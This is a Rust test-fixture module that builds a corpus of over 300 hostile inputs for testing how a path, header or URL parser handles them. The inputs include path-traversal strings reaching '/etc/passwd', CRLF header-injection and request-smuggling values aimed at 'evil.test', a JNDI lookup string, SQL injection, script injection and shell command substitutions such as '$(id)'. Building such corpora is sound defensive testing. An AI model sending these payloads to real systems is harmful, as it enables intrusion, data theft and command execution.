//! Values that try to be more than values.

/// Each of them leads elsewhere in a path, plainly or after one or two decodes.
pub(crate) fn dotted() -> Vec<String> {
    let dots = ["..", ".", "%2e%2e", "%2E.", ".%2e", "%252e%252e", "..;", "..;x=y", ".. "];
    let separators = ["/", "\\", "%2f", "%5C", "%252F", "%255c"];
    let mut values: Vec<String> = dots.iter().map(|dots| (*dots).to_owned()).collect();
    for dots in dots {
        for separator in separators {
            values.push(format!("{dots}{separator}"));
            values.push(format!("{dots}{separator}admin"));
            values.push(format!("x{separator}{dots}"));
            values.push(format!("x{separator}{dots}{separator}{dots}{separator}admin"));
        }
    }
    values.extend(
        ["/../admin", "//../", "x/./y", "/.", "....//../", "a/..?b", "..%2f..%2f..%2fetc%2fpasswd"]
            .map(Into::into),
    );
    values
}

/// Each of them ends a line or a text for somebody, plainly or after one or two decodes.
pub(crate) fn controls() -> Vec<String> {
    let ends = [
        "\r\n",
        "\n",
        "\r",
        "\0",
        "\u{7f}",
        "\u{1b}[2J",
        "\u{b}",
        "%0d%0a",
        "%0A",
        "%00",
        "%250d%250A",
        "%2500",
    ];
    let mut values = Vec::new();
    for end in ends {
        values.push(end.to_owned());
        values.push(format!("a{end}X-Injected: 1"));
        values.push(format!("a HTTP/1.1{end}Host: evil.test{end}{end}GET /admin"));
        values.push(format!("a{end}"));
    }
    values
}

#[rustfmt::skip]
const ODD: &[&str] = &[
    "?", "#", "?a=b", "#fragment", "a?b#c", "?admin=true&x", "&admin=true", "=", "a=b", "+", "a+b", " ", "  ", "a b",
    "@evil.test", "//evil.test/x", "/", "//", "a/b", "/admin", "admin/", "a//b", "http://evil.test/",
    "https://u:p@evil.test:80/", ":80", ":80/x", ";a=b", "a;b", ";", ",", "a,b", "[", "]", "a[b]", "[]", "{", "}",
    "{id}", "{{x}}", "${jndi:ldap://evil.test}", "%", "%%", "%2", "%zz", "%u002e", "%2f", "%2F", "%252f", "%25252e",
    "%3f", "%23", "%26", "%c0%ae%c0%ae", "%ff", "\\", "a\\b", "\\\\host\\share", "...", "....", "a..b", "..a", "a..",
    ".a", "a.", "a/...", "-", "_", "~", "!", "$", "'", "(", ")", "*", "\"", "`", "^", "|", "<", ">", "' OR 1=1--",
    "<script>alert(1)</script>", "$(id)", "`id`", "|id", "&&id", "\"; filename=\"x", "--boundary--", "null",
    "undefined", "true", "0", "-1", "1e6", "NaN", "[object Object]", "__proto__", "constructor", "ü", "é", "ß",
    "日本語", "😀", "عربى", "e\u{301}", "\u{2215}", "a\u{2215}..b", "\u{ff0f}", "\u{ff0e}\u{ff0e}",
    "\u{ff0e}\u{ff0e}\u{ff0f}", "\u{2024}\u{2024}", "\u{2025}", "\u{200b}", "\u{202e}", "\u{feff}", "\u{a0}",
    "\u{2028}", "\u{ff1f}", "\u{ff03}", "\u{ff05}2e", "\u{fffd}", "\u{e000}", "\u{10ffff}",
    "\u{560a}\u{560d}X-Injected: 1", "a\u{85}b", "\u{17f}", "\u{212a}", "\u{130}", "Bearer x", "application/json",
    "gzip, chunked", "chunked", "0\u{20}", "sid=1; admin=1", "a; Path=/", "a=b; c=d", "$Version=1",
];

/// Each of them is a value like others, however odd, and arrives.
pub(crate) fn odd() -> Vec<String> {
    let long = [("a", 10_000), ("%", 3000), ("/", 3000), ("ü", 3000), (" x", 2000), ("&a=b", 1000)];
    let short = ODD.iter().map(|value| (*value).to_owned());
    short.chain(long.map(|(part, times)| part.repeat(times))).collect()
}

#[test]
fn there_are_more_than_three_hundred_and_no_two_are_equal() {
    let all: Vec<_> = [dotted(), controls(), odd()].concat();
    let different: std::collections::BTreeSet<_> = all.iter().collect();
    assert!(all.len() > 300 && different.len() == all.len(), "{} {}", all.len(), different.len());
}
